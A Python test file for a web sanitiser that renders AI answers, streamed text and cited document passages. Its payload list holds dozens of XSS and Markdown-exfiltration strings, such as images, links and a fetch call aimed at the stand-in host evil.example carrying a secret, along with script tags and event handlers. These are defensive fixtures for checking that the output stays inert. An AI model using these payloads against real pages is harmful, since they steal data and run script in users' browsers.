"""The page's sanitiser: foreign text shows as written and does nothing, in every prefix of a stream."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ui.records import Answer, Sentence, Source, Verdict
from ui.render import answer_html, copy_text, fill, inert, place_in, plain_label, prose_html, stream_html, tag
from ui.tables import Cited, passage_html

EVIL = "https://evil.example/x?q=secret"
PAYLOADS = (
    f"![x]({EVIL})",
    f"[x]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"[x][r]\n\n[r]: {EVIL}",
    f"![x][r]\n\n[r]: {EVIL}",
    f"[r]\n\n[r]: {EVIL} 'title'",
    f"[x][]\n\n[x]: <{EVIL}>",
    f"<{EVIL}>",
    EVIL,
    "www.evil.example/x",
    "//evil.example/x",
    "mailto:a@evil.example",
    "a@evil.example",
    "<a@evil.example>",
    f'<a href="{EVIL}">x</a>',
    f"<img src={EVIL}>",
    f"<IMG SRC='{EVIL}' onerror=alert(1)>",
    f"<img/src={EVIL}",
    f"<svg onload=fetch('{EVIL}')>",
    "<script>alert(1)</script>",
    f"<iframe src={EVIL}></iframe>",
    f"<style>@import '{EVIL}';</style>",
    f'<div style="background:url({EVIL})">x</div>',
    f"<link rel=stylesheet href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><button>",
    f"<object data={EVIL}>",
    f"<embed src={EVIL}>",
    f"<video poster={EVIL}>",
    f"<audio src={EVIL}>",
    f"<base href={EVIL}>",
    f"<table background={EVIL}><tr><td>",
    f"<input type=image src={EVIL}>",
    f"<math href={EVIL}>x</math>",
    "<!-- x",
    "<![CDATA[x",
    "<?php x",
    "</div></div><b>",
    "</span>\"'><img src=x>",
    '" onclick="alert(1)',
    "' onmouseover='alert(1)",
    f"&lt;img src={EVIL}&gt;",
    f"&#60;img src={EVIL}&#62;",
    f"&#x3c;a href={EVIL}&#x3e;",
    "[x](&#104;ttps://evil.example)",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"$\\href{{{EVIL}}}{{x}}$",
    f"$$\\includegraphics{{{EVIL}}}$$",
    f"\\(\\url{{{EVIL}}}\\)",
    f"| a | b |\n|---|---|\n| ![x]({EVIL}) | x |",
    f"> [x]({EVIL})",
    f"- ![x]({EVIL})\n- x",
    f"1. [x]({EVIL})",
    f"# [x]({EVIL})",
    f"**[x]({EVIL})**",
    f"`[x]({EVIL})`",
    f"**![x]({EVIL})** `<img src={EVIL}>`",
    f"~~[x]({EVIL})~~",
    f"[^1]: {EVIL}",
    f"```\n<img src={EVIL}>\n```\n<img src={EVIL}>",
    f"    <img src={EVIL}>",
    f"\n\n<img src={EVIL}>\n\n",
    f"x  \n[x]({EVIL}\n'a')",
    f"[x](<{EVIL}>)",
    f"[x]( {EVIL} )",
    f"\\[x]({EVIL})",
    f"\\\\[x]({EVIL})",
    f"[a]\u200b({EVIL})",
    f"[a](\u202e{EVIL})",
    f"![\ud800]({EVIL})",
    f"\x00<img src={EVIL}>",
    ":material/home: :red[x] :image[x]",
    f"[1]({EVIL})",
    f"[1, 2]: {EVIL}",
    f"[1][2]\n\n[2]: {EVIL}",
    "{body} {0} {x.__class__}",
    f"setext [x]({EVIL})\n===",
    f"***\n[x]({EVIL})",
    "<details open ontoggle=alert(1)>",
    f"H\u2028![x]({EVIL})",
    "http:\\\\evil.example",
    "ftp://evil.example",
)
TAGS = {"div", "p", "ul", "li", "strong", "code", "span", "button"}
ATTRIBUTES = {"class", "type", "data-cite", "title", "aria-label", "tabindex", "scope", "lang"}
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
AUTOLINK = re.compile(r"(?i)(https?://|ftp://|www\.|mailto:|[\w.]@[\w])")


class Reader(HTMLParser):
    """Collect tags, attributes and text as a browser would."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the tag and the names of its attributes."""
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        """Note the text."""
        self.text += data


def make_source(number: int, text: str = "x") -> Source:
    """Return a source with `text` wherever a source holds foreign text."""
    return Source(number, f"k{number}", "d", text, text, text, "application/pdf", "en", (text,), text, 3)


def make_answer(text: str) -> Answer:
    """Return an answer whose only sentence is `text`, citing one source that exists and one that does not."""
    return Answer("a1", "answered", text, (Sentence(text, (1, 9), "supported"),))


def assert_inert(html: str, *, tags: set[str] = TAGS) -> None:
    """Nothing links, loads or runs, whether `html` is read as HTML or as Markdown with raw HTML."""
    reader = Reader(html)
    assert reader.tags <= tags
    assert reader.attributes <= ATTRIBUTES
    for token in MARKDOWN.parse(html):
        for inner in (token, *(token.children or ())):
            assert inner.type not in ("link_open", "image", "math_inline")
            assert Reader(inner.content).tags <= tags if inner.type.startswith("html") else True
    assert not AUTOLINK.search(html)


def assert_plain(label: str) -> None:
    """Hold that a label read as Markdown has no link, image, tag or formula."""
    for token in MARKDOWN.parse(label):
        for inner in (token, *(token.children or ())):
            assert inner.type not in (
                "link_open",
                "image",
                "html_inline",
                "html_block",
                "code_inline",
                "code_block",
            )
            assert not AUTOLINK.search(inner.content if inner.type == "text" else "")
    assert not re.search(r"(?<!\\)\$", label)


def test_the_corpus_is_large_enough() -> None:
    """At least 60 different payloads."""
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_prefix_of_a_stream_links_or_loads(payload: str) -> None:
    """Every prefix of every payload, in a stream, an answer, a passage and a label, is inert."""
    for end in range(1, len(payload) + 1):
        prefix = f"Before {payload[:end]}"
        assert_inert(stream_html(prefix))
        assert_inert(prose_html(prefix))
        assert_inert(
            passage_html(
                f"| {prefix} | b |\n| --- | --- |\n| {prefix} |\n\n- {prefix}", Cited([(0, 900)], prefix)
            ),
            tags=TAGS | {"table", "tr", "td", "th", "mark"},
        )
        assert_plain(plain_label(prefix, max_chars=500))
    assert_inert(answer_html(make_answer(payload), [make_source(1, payload)]))
    assert_inert(passage_html(f"<table><tr><td>{payload}</td></tr></table>", is_flowing=True))


@given(st.text(max_size=60))
def test_text_shows_as_written(text: str) -> None:
    """What a reader sees of foreign text is that text, without invisible characters and line ends."""
    shown = unescape(inert(text))
    kept = [letter for letter in text if letter.isalnum() and letter.isascii()]
    assert [letter for letter in shown if letter.isalnum() and letter.isascii()] == kept
    assert Reader(inert(text)).tags == set()


@given(st.text(alphabet=st.sampled_from("<>&\"'`*_[]()!:/\\$#|~=-+ \nahtps.@1"), max_size=40))
def test_no_mixture_of_marks_escapes(text: str) -> None:
    """Whatever marks are mixed, the stream stays inert."""
    assert_inert(stream_html(text))
    assert_plain(plain_label(text))


def test_inserts_cannot_smuggle_placeholders() -> None:
    """Braces in foreign text are text, and only Safe goes in as HTML."""
    assert fill("<p>{a}</p>", a="{b}<i>") == "<p>&#123;b&#125;&#60;i&#62;</p>"


def test_quoted_chip_says_that_it_stands_there_and_no_more() -> None:
    """What is quoted is not called supported: whether it answers is not known."""
    quoted = Sentence("Stands there.", (1,), "quoted")
    html = answer_html(Answer("a1", "answered", "Stands there. [1]", (quoted,)), [make_source(1)])
    assert "im-chip-quoted" in html
    assert "It stands there word for word" in html
    assert "supported" not in html


@pytest.mark.parametrize(
    ("verdict", "language"), [("quoted", "en"), ("supported", "fr"), ("unsupported", "fr")]
)
def test_a_sentence_says_its_language(verdict: Verdict, language: str) -> None:
    """A screen reader pronounces a quotation as its document is written, every other sentence as the answer is."""
    answer = Answer("a1", "answered", "Text.", (Sentence("Text.", (1,), verdict),), language="fr")
    assert f'<span class="im-said" lang="{language}">' in answer_html(answer, [make_source(1)])
    assert tag("und") == ""


def test_a_forged_citation_gets_no_chip() -> None:
    """A number that no source bears is not shown as a citation."""
    html = answer_html(make_answer("Text."), [make_source(1)])
    assert html.count("data-cite") == 1


def test_paragraphs_and_lists_survive() -> None:
    """Sentences fall into the paragraphs and list items of the answer's text."""
    sentences = (
        Sentence("One.", (1,), "supported"),
        Sentence("Two.", (), "unsupported"),
        Sentence("Three.", (1,), "repaired"),
    )
    html = answer_html(
        Answer("a", "answered", "One. [1]\n\n- Two.\n- Three. [1]", sentences), [make_source(1)]
    )
    assert (html.count("<p>"), html.count("<li>")) == (1, 2)


def test_unfinished_citation_marks_are_not_shown() -> None:
    """A stream shows no citation mark, not even the first half of one."""
    assert Reader(stream_html("Yes. [1] No [1, ")).text == "Yes. No"


def test_html_of_a_document_is_text() -> None:
    """Tags in a passage, in its tables and in its lists show as they are written, and make no element."""
    hostile = "<table onclick=x><tr><td>A<img src=y></td></tr></table><script>evil()</script>"
    html = passage_html(f"{hostile}\n\n| {hostile} | b |\n| --- | --- |\n| {hostile} | c |\n\n- {hostile}")
    assert Reader(html).tags == {"p", "div", "table", "tr", "th", "td", "ul", "li"}
    assert Reader(html).text.count("evil") == 4
    assert_inert(html, tags=TAGS | {"table", "tr", "td", "th"})


def test_a_copy_says_who_wrote_it() -> None:
    """A copied answer carries its cited sources and the mark that a machine wrote it."""
    text = copy_text(make_answer("Text. [1]"), [make_source(1, "Policy"), make_source(2, "Other")])
    assert "[1] Policy, page 3" in text
    assert "Other" not in text
    assert "AI-generated" in text


def test_markdown_table_of_a_passage_is_drawn() -> None:
    """Header, rows and escaped bars become cells; the lines around them stay lines; what lacks a rule is no table."""
    html = passage_html("Before\n\n| Site | Days |\n| --- | --- |\n| Kassel | 28 |\n| a \\| b | |\n\nAfter")
    assert html.count("<tr>") == 3
    assert '<th scope="col">Site</th><th scope="col">Days</th>' in html
    assert "<td>Kassel</td><td>28</td>" in html
    assert f"<td>a {inert('|')} b</td><td></td>" in html
    assert html.index("Before") < html.index("<table>") < html.index("</table>") < html.index("After")
    assert "<table>" not in passage_html("| Kassel | 28 |\n| Bonn | 29 |")
    assert passage_html("") == ""


@pytest.mark.parametrize(
    ("media_type", "page", "cells", "place"),
    [
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", 2, "B4:F20", "sheet 2, B4:F20"),
        ("application/vnd.oasis.opendocument.spreadsheet", 1, None, "sheet 1"),
        ("application/vnd.ms-excel", 3, "A1:B2", "sheet 3, A1:B2"),
        ("application/vnd.openxmlformats-officedocument.presentationml.presentation", 4, None, "slide 4"),
        ("application/vnd.ms-powerpoint", 4, None, "slide 4"),
        ("application/pdf", 7, None, "page 7"),
        ("text/csv", None, "A1:C9", "A1:C9"),
        ("text/markdown", None, None, ""),
    ],
)
def test_citation_says_where_to_look(
    media_type: str, page: int | None, cells: str | None, place: str
) -> None:
    """A page, a slide, or a sheet with its cells; nothing where the format has no places."""
    source = Source(1, "k", "d", "t", "f", "c", media_type, "en", (), "text", page, cells=cells)
    assert place_in(source) == place


def test_phrases_are_marked_where_they_stand() -> None:
    """A part of a line, over several lines, a row of a table; what is written there stays inert."""
    text = "One <b>here</b>. Two.\nThree.\n| a | b |\n| --- | --- |\n| c | d |\n| e | f |"
    start = text.index("Two")
    html = passage_html(text, Cited([(start, text.index("Three") + 5), (text.index("| e"), len(text))]))
    assert html.count("<mark") == 2
    assert '<mark class="im-phrase">Two&#46;</mark>' in html or '<mark class="im-phrase">Two.</mark>' in html
    assert "<b>" not in html
    assert html.count('<tr class="im-phrase">') == 1
    assert '<tr class="im-phrase"><td>e</td><td>f</td></tr>' in html
    assert passage_html(text, Cited([(0, 0)])) == passage_html(text)


def test_cells_that_say_the_same_are_marked_in_their_row() -> None:
    """Of a cited row the cells whose words and figures the answer says are told apart from the others."""
    table = "| Country | Hotel | Meals |\n| --- | --- | --- |\n| Germany | 130 EUR | 28 EUR |\n| France | 145 EUR | |"
    said = "In Germany a hotel may cost 130 EUR."
    html = passage_html(table, Cited([(table.index("| Germany"), table.index("\n| France"))], said))
    cited = '<td class="im-cited"><strong>{}</strong></td>'
    row = f"{cited.format('Germany')}{cited.format('130 EUR')}<td>28 EUR</td>"
    assert f'<tr class="im-phrase">{row}</tr>' in html
    assert html.count("im-cited") == 2


def test_lines_are_points_where_the_format_breaks_none() -> None:
    """Of a web page lines on end are a list; of a plain text those with a bullet or a number; a listing is none."""
    lines = "Bring your badge\nSee the nurse"
    assert passage_html(lines, is_flowing=True).count("<li>") == 2
    assert passage_html(lines).count("<li>") == 0
    assert passage_html(f"You need:\n- a badge\n- shoes\n\n{lines}").count("<li>") == 2
    assert passage_html("def run():\n    return 1", is_flowing=True).count("<li>") == 0
    assert passage_html("One paragraph.\n\nAnother one.", is_flowing=True).count('<p class="im-line">') == 2


def test_marks_in_points_stand_where_the_phrase_does() -> None:
    """A phrase over two points marks its part of each."""
    html = passage_html("Bring a badge\nSee the nurse", Cited([(6, 21)]), is_flowing=True)
    assert re.findall(r'<mark class="im-phrase">(.*?)</mark>', html) == ["a badge", "See the"]
